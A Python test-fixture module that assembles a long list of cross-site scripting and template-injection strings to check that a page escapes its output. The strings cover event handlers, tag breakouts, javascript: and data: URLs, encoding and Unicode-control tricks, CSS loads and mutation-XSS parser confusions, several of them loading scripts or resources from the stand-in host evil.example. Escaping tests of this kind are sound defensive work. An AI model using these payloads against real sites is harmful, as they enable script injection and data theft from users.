"""Words that would be more than words where a page does not escape them.

`pwned` is the function that they try to call. The families are crossed with the places that they try to break
out of; all of it is written for this test.
"""

from collections.abc import Iterator
from itertools import product

_CALLS = ("pwned()", "window['pwned']()", "pwned``", "top.pwned(1)")
_HANDLERS = (
    "<img src=x onerror={q}{c}{q}>",
    "<svg onload={q}{c}{q}>",
    "<svg/onload={q}{c}{q}//",
    "<body onload={q}{c}{q}>",
    "<body onpageshow={q}{c}{q}>",
    "<details open ontoggle={q}{c}{q}>x",
    "<input autofocus onfocus={q}{c}{q}>",
    "<select autofocus onfocus={q}{c}{q}><option>",
    "<video><source onerror={q}{c}{q}></video>",
    "<audio src=x onerror={q}{c}{q}>",
    "<iframe src=about:blank onload={q}{c}{q}></iframe>",
    "<object data=x onerror={q}{c}{q}></object>",
    "<marquee onstart={q}{c}{q}>x</marquee>",
    "<a href=# onmouseover={q}{c}{q}>here</a>",
    "<dialog open onclose={q}{c}{q}>x</dialog>",
    "<div popover id=p onbeforetoggle={q}{c}{q}>x</div>",
)
_OUT_OF = (
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "]]>",
    "`>",
    "</bdi>",
)
_INTO = (
    "<script>pwned()</script>",
    "<img src=x onerror=pwned()>",
    " autofocus onfocus=pwned() x=",
    "<svg><script>pwned()</script></svg>",
)
_SCRIPTS = (
    "<script>pwned()</script>",
    "<ScRiPt>pwned()</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script src=//evil.example/x.js></script>",
    "<script\n>pwned()</script\n>",
    "<script/x>pwned()</script/x>",
    "<script type=module>pwned()</script>",
    "<<script>pwned()//<</script>",
    "<scr<script>ipt>pwned()</scr</script>ipt>",
    "<script>/*",
    "<svg><script href=data:text/javascript,pwned() /></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
    "<svg><a xlink:href=javascript:pwned()><text y=20>go</text></a></svg>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zy8+#x></svg>",
    "<math><mtext></p><img src=x onerror=pwned()></mtext></math>",
    "<math href=javascript:pwned()>go</math>",
    "<math><mglyph><style><!--</style><img title='--><img src=x onerror=pwned()>'></mglyph></math>",
    "<form><math><mtext><form><mglyph><svg><mtext><style><path id='</style><img onerror=pwned() src>'>",
    "<template><script>pwned()</script></template>",
    "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
)
_ADDRESSES = (
    "javascript:pwned()",
    "JaVaScRiPt:pwned()",
    "java\tscript:pwned()",
    "java\nscript:pwned()",
    "\x01javascript:pwned()",
    " javascript:pwned()",
    "javascript&colon;pwned()",
    "javascript&#58;pwned()",
    "javascript://x/%0Apwned()",
    "data:text/html,<script>pwned()</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
    "vbscript:pwned()",
    "//evil.example/page",
    "\\\\evil.example\\page",
    "https://evil.example/?q=<img src=x onerror=pwned()>",
    'https://evil.example/" onmouseover=pwned() x="',
    "<a href=javascript:pwned()>read on</a>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=prefetch href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<img src=https://evil.example/dot.png>",
    "<img srcset='https://evil.example/dot.png 1x'>",
    "<form action=https://evil.example/><button>Go on</button></form>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<embed src=https://evil.example/x.swf>",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{{ pwned() }}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in range(9) %}pwned{% endfor %}",
    "{% include 'base.html' %}",
    "{# nothing to see #}",
    "{{constructor.constructor('pwned()')()}}",
    "${pwned()}",
    "#{pwned()}",
    "<%= pwned() %>",
    "[[pwned()]]",
    "{{'}}<script>pwned()</script>",
    "%(pwned)s {pwned} {0.__class__}",
)
_OF_HTMX = (
    "<div hx-get=/log hx-trigger=load>x</div>",
    "<div data-hx-post=/log/verify data-hx-trigger=load>x</div>",
    "<div hx-on:load=pwned() hx-on::load=pwned()>x</div>",
    "<div hx-vals='js:{x:pwned()}' hx-get=/ hx-trigger='load[pwned()]'>x</div>",
    "<a id=htmx name=htmx>x</a><a id=config name=config>x</a>",
    "<form name=body><input name=firstChild><input name=parentNode></form>",
    "<input form=job name=hx-get value=//evil.example>",
)
_CODED = (
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "&#60;script&#62;pwned()&#60;/script&#62;",
    "&#x3c;img src=x onerror=pwned()&#x3e;",
    "&amp;lt;script&amp;gt;",
    "&ltscript&gtpwned()",
    "&quot;&gt;&apos;&NewLine;&Tab;",
    "%3Cscript%3Epwned()%3C/script%3E",
    "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
    "\\x3cscript\\x3epwned()",
    "+ADw-script+AD4-pwned()+ADw-/script+AD4-",
    "¼script¾pwned()¼/script¾",
    "＜script＞pwned()＜/script＞",
    "‹script›pwned()‹/script›",
    "\u1b28J<script>pwned()</script>\u1b28B".replace("\u1b28", "\x1b("),
    "<ſcript>pwned()</ſcript>",
    "<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&#40;&#41;>",
    "\ufeff<script>pwned()</script>",
    "&",
    "&#0;&#x110000;&#xD800;",
)
_STYLES = (
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style=position:fixed;inset:0;background:red>x</p>",
    '" style="animation:spin 1s" onanimationstart="pwned()',
    "expression(pwned())",
    "</style><script>pwned()</script><style>",
    "<style><!--</style><script>pwned()//--></script>",
)
_CONTROLS = (
    "<scr\0ipt>pwned()</scr\0ipt>",
    "\0<script>pwned()</script>",
    "<\0img src=x onerror=pwned()>",
    "<img\0src=x\0onerror=pwned()>",
    "<img src=x\fonerror=pwned()>",
    "<img src=x\vonerror=pwned()>",
    "<img\u2028src=x\u2028onerror=pwned()>",
    "<img\u00a0src=x\u00a0onerror=pwned()>",
    "\x08<script>pwned()</script>\x7f",
    "\u202e>tpircs/<()denwp>tpircs<\u202c",
    "\u202d<script>\u202epwned()</script>",
    "\u2066<script>pwned()</script>\u2069",
    "\u200f<img src=x onerror=pwned()>\u200e",
    "\u061c\u2067<b onclick=pwned()>\u2069",
    "<\u200bscript>pwned()</\u200bscript>",
    "e\u0301<\u0338script>pwned()",
)
_UNCLOSED = (
    "<!--",
    "-->",
    "<!-- --!><script>pwned()</script>",
    "<!--><script>pwned()</script>",
    "<![CDATA[<script>pwned()</script>",
    "<?xml version='1.0'?><script>pwned()</script>",
    "<!doctype html><script>pwned()</script>",
    "<title>",
    "<textarea>",
    "<xmp>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
    "<noembed><img title='</noembed><img src=x onerror=pwned()>'></noembed>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img onerror=pwned() src>'>",
    "<table><td><script>pwned()</script>",
    "</main></body></html><script>pwned()</script>",
    "<a title='",
    "<img src='x",
    "<",
    "</",
)


def _handlers() -> Iterator[str]:
    for number, (handler, quote) in enumerate(product(_HANDLERS, ('"', "'", "", "`"))):
        yield handler.format(q=quote, c=_CALLS[number % len(_CALLS)])


def _breakouts() -> Iterator[str]:
    return (out + into for out, into in product(_OUT_OF, _INTO))


VECTORS = tuple(
    dict.fromkeys(
        (
            *_handlers(),
            *_breakouts(),
            *_SCRIPTS,
            *_ADDRESSES,
            *_TEMPLATES,
            *_OF_HTMX,
            *_CODED,
            *_STYLES,
            *_CONTROLS,
            *_UNCLOSED,
        )
    )
)
